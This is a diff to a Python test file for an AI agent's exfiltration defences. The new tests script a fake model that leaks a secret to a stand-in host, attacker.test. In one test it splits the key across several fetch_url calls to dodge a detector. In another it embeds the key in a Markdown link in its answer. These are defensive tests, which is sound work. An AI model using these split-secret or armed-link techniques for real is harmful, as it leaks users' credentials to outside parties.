@@ -6,15 +6,16 @@ from __future__ import annotations
 
 import ipaddress
 from collections.abc import AsyncIterator, Mapping
+from dataclasses import replace
 from typing import Any
 
 import pytest
 
-from agent_core import InMemoryThreadStore, Observed
+from agent_core import InMemoryThreadStore, Observed, Stopped
 from tests.agent_core.conftest import AgentFactory
 from tests.fakes.openai_server import FakeOpenAI, text, tool_calls
 from tests.fakes.pages import PageServer
-from tools import Registry, ToolContext, ToolSettings
+from tools import EgressPolicy, Registry, ToolContext, ToolSettings
 from tools.builtins.channel_history import channel_history
 from tools.builtins.fetch_url import make_fetch_url
 from tools.ssrf import IPAddress
@@ -88,3 +89,37 @@ async def test_with_the_guard_off_the_request_goes_out(
                       text("sent"))
     events = await observed(agent, "summarise the channel", scope=scope(steal))
     assert [e.outcome for e in events] == ["ok", "ok"] and [p for p, _ in attacker.requests] == ["/text?d=x"]
+
+
+async def test_a_key_split_over_calls_to_an_allowed_host_stops_at_the_call_that_completes_it(
+    fake_openai: FakeOpenAI, make_agent: AgentFactory, attacker: PageServer
+) -> None:
+    # The host is allow-listed, so the destination rule lets every call through: the detector is the layer
+    # that stops this. Each piece (7 characters) is too short to be recognised alone.
+    steal = f"http://attacker.test:{attacker.port}/text"
+    page = f"http://attacker.test:{attacker.port}/page"
+    agent = make_agent(registry=registry())
+    pieces = [SECRET[i : i + 7] for i in range(0, len(SECRET), 7)]
+    fake_openai.queue(tool_calls(("channel_history", {})),
+                      *(tool_calls(("fetch_url", {"url": f"{page}?d={piece}"})) for piece in pieces),
+                      text("sent"))
+    allowed = replace(scope(steal), egress=EgressPolicy(allowed_domains=("attacker.test",)))
+    events = await observed(agent, "summarise the channel", scope=allowed)
+    assert [e.outcome for e in events] == ["ok", "ok", "held_back", "held_back"]
+    assert "split over calls" in events[2].text
+    assert [p for p, _ in attacker.requests] == [f"/page?d={pieces[0]}"]
+
+
+async def test_an_armed_answers_link_is_text_in_the_answer_and_in_the_stored_history(
+    fake_openai: FakeOpenAI, make_agent: AgentFactory, attacker: PageServer
+) -> None:
+    store = InMemoryThreadStore()
+    agent = make_agent(registry=registry(), store=store)
+    link = f"https://attacker.test/r?d={SECRET}"
+    fake_openai.queue(tool_calls(("channel_history", {})), text(f"Done: [the report]({link})"))
+    events = [e async for e in agent.events("summarise the channel", thread="T1", scope=scope(link))]
+    final = events[-1]
+    assert isinstance(final, Stopped) and final.answer == f"Done: the report (`{link}`)"
+    stored = [m["content"] for m in (await store.load("T1")).history if m.get("role") == "assistant"]
+    assert stored[-1] == f"Done: the report (`{link}`)"
+    assert (await store.load("T1")).progress.answer == final.answer
